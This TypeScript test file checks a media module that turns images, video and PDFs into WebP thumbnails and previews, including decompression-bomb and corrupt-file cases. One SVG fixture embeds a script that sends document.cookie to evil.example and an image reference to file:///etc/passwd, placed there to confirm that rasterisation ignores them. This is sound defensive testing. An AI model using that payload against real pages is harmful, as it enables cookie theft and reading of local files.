import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeDerivatives, posterTime } from './derivatives.js';
import type { Derivative, DerivativesResult } from './derivatives.js';
import { MediaError } from './errors.js';
import { bombPng, fixtureDir, hasCommand, lavfi, photoJpeg, testClip, tinyPdf, WEBP_MAGIC } from './test-fixtures.js';
import { detectTools, toolReport } from './tools.js';
import type { AssetType } from './types.js';

const dir = fixtureDir();
const f = (name: string) => join(dir, name);
const out = (name: string) => join(dir, 'out', name);
const HEIF_ENC = hasCommand('heif-enc');

beforeAll(async () => {
  const tiles = (w: number, h: number) =>
    sharp({
      create: {
        width: w,
        height: h,
        channels: 3,
        background: '#000',
        noise: { type: 'gaussian', mean: 128, sigma: 40 },
      },
    });
  await photoJpeg(f('photo.jpg'), 3000, 2000);
  await tiles(600, 300).png().toFile(f('plain.png'));
  await sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 255, g: 0, b: 0, alpha: 0.25 } } })
    .png()
    .toFile(f('alpha.png'));
  await tiles(500, 500).webp().toFile(f('pic.webp'));
  await tiles(640, 480).tiff().toFile(f('scan.tiff'));
  await tiles(320, 240).avif({ effort: 0 }).toFile(f('pic.avif'));
  await sharp({ create: { width: 300, height: 200, channels: 3, background: '#00f' } })
    .toColourspace('cmyk')
    .jpeg()
    .toFile(f('cmyk.jpg'));
  // Animated GIF, three frames.
  lavfi(f('anim.gif'), 'testsrc=duration=0.3:size=120x90:rate=10');
  writeFileSync(
    f('icon.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><circle cx="12" cy="12" r="10" fill="#c00"/></svg>',
  );
  writeFileSync(
    f('script.svg'),
    `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600" onload="fetch('/api/x')">
  <script>document.location='https://evil.example/?c='+document.cookie</script>
  <rect width="800" height="600" fill="#09f"/>
  <image href="file:///etc/passwd" width="10" height="10"/>
  <image xlink:href="${f('plain.png')}" x="0" y="0" width="400" height="300"/>
  <image href="plain.png" x="400" y="300" width="400" height="300"/>
</svg>`,
  );
  testClip(f('clip.mp4'), 2, '320x240');
  lavfi(f('jingle.mp3'), 'sine=duration=1');
  lavfi(f('old.bmp'), 'testsrc=size=100x80', '-frames:v', '1');
  tinyPdf(f('doc.pdf'));
  bombPng(f('bomb.png'));
  writeFileSync(f('empty.txt'), '');
  writeFileSync(f('notes.txt'), 'hello');
  const jpeg = readFileSync(f('photo.jpg'));
  writeFileSync(f('truncated.jpg'), jpeg.subarray(0, 2000));
  if (HEIF_ENC) {
    await sharp({ create: { width: 640, height: 480, channels: 3, background: '#c60' } })
      .jpeg()
      .toFile(f('heic-src.jpg'));
    execFileSync('heif-enc', ['-q', '40', f('heic-src.jpg'), '-o', f('photo.heic')]);
  }
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function filesOf(r: DerivativesResult): Record<string, Derivative> {
  if ('icon' in r) throw new Error(`expected pictures, got icon ${r.icon} (${r.reason})`);
  return Object.fromEntries(r.files.map((d) => [d.kind, d]));
}

async function check(file: string, type: AssetType, ext: string, large: 'preview' | 'poster' = 'preview') {
  const target = out(file.replace(/\W/g, '_'));
  const files = filesOf(await makeDerivatives(f(file), type, ext, target));
  const thumb = files.thumbnail;
  const big = files[large];
  expect(thumb && big).toBeTruthy();
  for (const d of [thumb!, big!]) {
    const bytes = readFileSync(d.path);
    expect(WEBP_MAGIC(bytes)).toBe(true);
    const meta = await sharp(bytes).metadata();
    expect([meta.width, meta.height]).toEqual([d.width, d.height]);
    expect(d.mime).toBe('image/webp');
  }
  expect(Math.max(thumb!.width, thumb!.height)).toBeLessThanOrEqual(400);
  expect(Math.max(big!.width, big!.height)).toBeLessThanOrEqual(2048);
  // Only WebP is ever written: an SVG (or anything else) is never copied through.
  expect(readdirSync(target).sort()).toEqual([`${large}.webp`, 'thumbnail.webp'].sort());
  return { thumb: thumb!, big: big! };
}

describe('makeDerivatives', () => {
  it('JPEG: one decode gives a 2048 preview and a 400 thumbnail, turned upright by EXIF orientation', async () => {
    const { thumb, big } = await check('photo.jpg', 'image', 'jpg');
    // 3000×2000 stored with orientation 6 is displayed 2000×3000.
    expect([big.width, big.height]).toEqual([1365, 2048]);
    expect([thumb.width, thumb.height]).toEqual([267, 400]);
  });

  it('PNG, PNG with alpha, WebP, TIFF, AVIF, CMYK JPEG; small images are not enlarged', async () => {
    expect((await check('plain.png', 'image', 'png')).big).toMatchObject({ width: 600, height: 300 });
    const alpha = await check('alpha.png', 'image', 'png');
    const meta = await sharp(alpha.thumb.path).metadata();
    expect(meta.hasAlpha).toBe(true);
    await check('pic.webp', 'image', 'webp');
    await check('scan.tiff', 'image', 'tiff');
    await check('pic.avif', 'image', 'avif');
    const cmyk = await check('cmyk.jpg', 'image', 'jpg');
    const { dominant } = await sharp(cmyk.thumb.path).stats();
    // Converted to sRGB (pure blue is outside CMYK, so a darker blue), not CMYK channels read as RGB.
    expect(dominant.b).toBeGreaterThan(120);
    expect(dominant.r).toBeLessThan(60);
  });

  it('animated GIF: first frame', async () => {
    const { big } = await check('anim.gif', 'image', 'gif');
    expect([big.width, big.height]).toEqual([120, 90]);
  });

  it('SVG: rasterised at the preview size, scripts and external images ignored, WebP only', async () => {
    const icon = await check('icon.svg', 'image', 'svg');
    expect([icon.big.width, icon.big.height]).toEqual([2048, 2048]);
    const { big } = await check('script.svg', 'image', 'svg');
    expect([big.width, big.height]).toEqual([2048, 1536]);
    // The local PNG the SVG points at (noise, by absolute and by relative path) was not read:
    // every quarter of the picture is the plain blue of the background rectangle.
    for (const [left, top] of [
      [0, 0],
      [1024, 768],
    ] as const) {
      const { channels } = await sharp(big.path).extract({ left, top, width: 1024, height: 768 }).stats();
      expect(channels.map((c) => c.stdev).every((sd) => sd < 3)).toBe(true);
      const expected = [0, 153, 255];
      channels.forEach((c, i) => expect(Math.abs(c.mean - expected[i]!)).toBeLessThan(3));
    }
    // The same bytes under a raster name are recognised as SVG and take the same safe path.
    const disguised = await check('script.svg', 'image', 'png');
    const { channels } = await sharp(disguised.big.path).extract({ left: 0, top: 0, width: 1024, height: 768 }).stats();
    expect(channels.every((c) => c.stdev < 3)).toBe(true);
  });

  it('HEIC through heif-convert', async (ctx) => {
    // The only case that depends on an encoder: without heif-enc there is no HEIC fixture to make.
    if (!HEIF_ENC) ctx.skip();
    const { big } = await check('photo.heic', 'image', 'heic');
    expect([big.width, big.height]).toEqual([640, 480]);
  });

  it('HEIC without heif-convert: libheif as WebAssembly, same picture', async (ctx) => {
    if (!HEIF_ENC) ctx.skip();
    const tools = await detectTools({ 'heif-convert': '/nonexistent/heif-convert' });
    const files = filesOf(await makeDerivatives(f('photo.heic'), 'image', 'heic', out('heic-wasm'), { tools }));
    expect([files.preview!.width, files.preview!.height]).toEqual([640, 480]);
    // The fixture is a flat #c60 square: the colours survive the decode.
    const { channels } = await sharp(files.preview!.path).stats();
    [0xcc, 0x66, 0x00].forEach((v, i) => expect(Math.abs(channels[i]!.mean - v)).toBeLessThan(8));
  });

  it('BMP through ffmpeg', async () => {
    const { big } = await check('old.bmp', 'image', 'bmp');
    expect([big.width, big.height]).toEqual([100, 80]);
  });

  it('video: a poster frame and a thumbnail', async () => {
    const { big } = await check('clip.mp4', 'video', 'mp4', 'poster');
    expect([big.width, big.height]).toEqual([320, 240]);
    expect(posterTime(2)).toBe(0.2);
    expect(posterTime(60)).toBe(1);
    expect(posterTime(0.2)).toBe(0);
    expect(posterTime(undefined)).toBe(0);
  });

  it('PDF: the first page', async () => {
    const { big } = await check('doc.pdf', 'document', 'pdf');
    expect([big.width, big.height]).toEqual([2048, 1024]);
  });

  it('PDF without poppler: the first page by pdf.js, the same size', async () => {
    const tools = await detectTools({ pdftoppm: '/nonexistent/pdftoppm' });
    const files = filesOf(await makeDerivatives(f('doc.pdf'), 'document', 'pdf', out('pdf-js'), { tools }));
    expect([files.preview!.width, files.preview!.height]).toEqual([2048, 1024]);
    // The page is a red rectangle on white paper: both show (green is 0 in red, 255 in white).
    const { channels } = await sharp(files.preview!.path).stats();
    expect(channels[1]!.min).toBeLessThan(40);
    expect(channels[1]!.max).toBeGreaterThan(240);
  });

  it('the type icon for the rest, and for an empty file', async () => {
    // Audio gets its waveform (video.test.ts), unless ffmpeg is missing.
    const noFfmpeg = await detectTools({ ffmpeg: '/nonexistent/ffmpeg' });
    expect(await makeDerivatives(f('jingle.mp3'), 'audio', 'mp3', out('jingle'), { tools: noFfmpeg })).toEqual({
      files: [],
      icon: 'audio',
      reason: 'tool_missing',
      missingTool: 'ffmpeg',
    });
    expect(await makeDerivatives(f('notes.txt'), 'document', 'txt', out('notes'))).toEqual({
      files: [],
      icon: 'text',
      reason: 'unsupported',
    });
    expect(await makeDerivatives(f('empty.txt'), 'document', 'txt', out('empty'))).toEqual({
      files: [],
      icon: 'text',
      reason: 'empty',
    });
  });

  it('a missing ffmpeg leaves the icon, and the start-up warning names only what has no stand-in', async () => {
    const tools = await detectTools({ ffmpeg: '/nonexistent/ffmpeg', pdftoppm: '/nonexistent/pdftoppm' });
    expect(await makeDerivatives(f('clip.mp4'), 'video', 'mp4', out('no-ffmpeg'), { tools })).toEqual({
      files: [],
      icon: 'video',
      reason: 'tool_missing',
      missingTool: 'ffmpeg',
    });
    const report = toolReport(tools);
    expect(report.missing).toEqual(['ffmpeg', 'pdftoppm']);
    expect(report.warning).toMatch(/ffmpeg \(video poster frames, proxies and audio waveforms\)/);
    expect(report.warning).not.toMatch(/pdftoppm/);
    const noPoppler = toolReport(
      await detectTools({ pdftoppm: '/x/pdftoppm', pdfinfo: '/x/pdfinfo', 'heif-convert': '/x/h' }),
    );
    expect(noPoppler.missing).toHaveLength(3);
    expect(noPoppler.warning).toBeUndefined();
    expect(toolReport(await detectTools()).warning).toBeUndefined();
  });

  it('a decompression bomb is refused from its header with a typed error, without using the memory', async () => {
    const before = process.memoryUsage().rss;
    const err = await makeDerivatives(f('bomb.png'), 'image', 'png', out('bomb')).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(MediaError);
    expect(err).toMatchObject({ code: 'pixel_limit', permanent: true });
    // 30000² RGBA would be 3.6 GB decoded.
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
    // BMP goes through ffmpeg, which has no limit of ours: the header is checked first.
    const bmp = Buffer.alloc(70);
    bmp.write('BM', 0, 'latin1');
    bmp.writeInt32LE(40, 14);
    bmp.writeInt32LE(30_000, 18);
    bmp.writeInt32LE(-30_000, 22);
    writeFileSync(f('bomb.bmp'), bmp);
    await expect(makeDerivatives(f('bomb.bmp'), 'image', 'bmp', out('bomb-bmp'))).rejects.toMatchObject({
      code: 'pixel_limit',
    });
    // A lower configured limit applies to ordinary files too.
    await expect(
      makeDerivatives(f('plain.png'), 'image', 'png', out('limited'), { limitInputPixels: 1000 }),
    ).rejects.toMatchObject({ code: 'pixel_limit' });
  });

  it('a corrupt file is a permanent typed error and leaves nothing behind', async () => {
    const target = out('truncated');
    await expect(makeDerivatives(f('truncated.jpg'), 'image', 'jpg', target)).rejects.toMatchObject({
      name: 'MediaError',
      code: 'unreadable',
      permanent: true,
    });
    expect(readdirSync(target)).toEqual([]);
  });
});
